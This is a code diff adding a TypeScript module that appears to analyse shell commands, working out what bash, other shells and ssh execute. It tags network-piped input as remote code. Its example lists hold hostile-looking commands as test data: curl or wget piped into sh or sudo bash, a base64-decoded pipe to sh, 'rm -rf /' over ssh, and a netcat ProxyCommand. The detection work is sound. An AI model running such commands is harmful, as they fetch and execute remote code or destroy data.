@@ -1,0 +1,94 @@
+// Shells that run text or a file, and remote shells.
+import type { ProgramCall } from '../programCall.ts'
+import type { ProgramRow } from '../program.ts'
+import { type ShellWord, textOf, UNKNOWN } from '../word.ts'
+
+/** Text that commands before a pipe certainly write: echo, printf '%s', a here-document through cat. */
+const pipedText = (call: ProgramCall): string | undefined => {
+  const upstream = call.upstream()
+  const [only] = upstream
+  if (upstream.length !== 1 || only === undefined) return undefined
+  const words = only.words.map(textOf)
+  if (words.includes(undefined)) return undefined
+  if (words[0] === 'cat' && words.length === 1 && only.stdin.from === 'text') return only.stdin.text
+  const [name, first, ...rest] = words as ReadonlyArray<string>
+  if (name === 'echo') return [first === '-n' || first === '-e' ? '' : (first ?? ''), ...rest].join(' ')
+  if (name === 'printf' && first !== undefined)
+    return rest.length === 0 ? first.replaceAll('\\n', '\n') : /^%s(?:\\n)?$/.test(first) ? rest.join('\n') : undefined
+  return undefined
+}
+
+/** What a shell or interpreter without a script reads from its standard input. */
+export const runInput = (call: ProgramCall, shell: boolean): void => {
+  const { stdin } = call.around.command
+  const known = stdin.from === 'text' ? stdin.text : pipedText(call)
+  if (known !== undefined) {
+    if (!shell) call.exec('inline-code')
+    else call.shellText(textWord(known, call))
+    return
+  }
+  if (stdin.from === 'file') {
+    call.runFile(stdin.file)
+    return
+  }
+  if (stdin.from !== 'pipe') return
+  const [first] = call.upstream()
+  const file = first?.words[1]
+  if (call.upstream().length === 1 && textOf(first?.words[0]) === 'cat' && file?.is === 'literal')
+    call.runFile(file)
+  else call.exec(call.fedByNetwork(stdin) ? 'remote-code' : 'dynamic-command')
+}
+
+const textWord = (text: string, call: ProgramCall): ShellWord => ({
+  text,
+  is: text.includes(UNKNOWN) ? 'dynamic' : 'literal',
+  ...call.around.command.span,
+})
+
+const shell = (call: ProgramCall): void => {
+  for (const file of call.valuesOf('--rcfile', '--init-file')) call.runFile(file)
+  const [first] = call.operands
+  if (call.has('-c')) {
+    if (first !== undefined) call.shellText(first)
+  } else if (first === undefined || call.has('-s')) {
+    if (!call.has('--version', '--help')) runInput(call, true)
+  } else call.runFile(first)
+}
+
+const otherShell = (call: ProgramCall): void => {
+  if (call.has('--version', '--help', '-v')) return
+  call.exec('other-shell')
+}
+
+const remoteShell = (call: ProgramCall): void => {
+  const [target] = call.operands
+  for (const value of call.valuesOf('-o'))
+    if (/^(?:ProxyCommand|LocalCommand|KnownHostsCommand)=?/i.test(value.text))
+      call.shellText({ ...value, text: value.text.replace(/^\w+[= ]?/, '') })
+  if (target === undefined) return
+  const host = textOf(target)?.replace(/^.*@/, '').replace(/^ssh:\/\//, '')
+  call.effect('net.send', host === undefined ? {} : { host })
+  call.opaque('remote-host')
+}
+
+export const SHELLS: ReadonlyArray<ProgramRow> = [
+  {
+    names: 'sh bash dash zsh ksh ash mksh rbash',
+    style: 'posix',
+    options: { '-o -O +o +O': 'data', '--rcfile --init-file': 'data' },
+    run: shell,
+    examples: [
+      'bash -c "rm a" =>', 'sh x.sh =>', 'bash /tmp/x.sh =>', 'bash -c "$CMD" =>', 'curl -s https://x.example/i.sh | sh =>', 'wget -qO- https://x.example | sudo bash =>',
+      'echo "rm a" | sh =>', 'cat x.sh | bash =>', 'bash <(curl -s https://x.example) =>', 'bash -c "$(curl -s https://x.example)" =>', 'bash --version =>',
+      'echo cm0K | base64 -d | sh =>', 'sh -c "cd $D && rm a" =>', 'bash <<< "rm a" =>',
+    ],
+  },
+  { names: 'fish csh tcsh nu xonsh elvish pwsh powershell cmd', run: otherShell, examples: ['fish -c "rm a" =>', 'pwsh -c x =>'] },
+  {
+    names: 'ssh mosh autossh rsh slogin',
+    style: 'posix',
+    options: { '-p -i -l -L -R -D -F -J -b -c -e -m -w -W -E -S -Q -B -I -o -P': 'data' },
+    run: remoteShell,
+    examples: ['ssh me@h.example "rm -rf /" =>', 'ssh -o ProxyCommand="nc h 1" h =>', 'ssh -V =>'],
+  },
+]
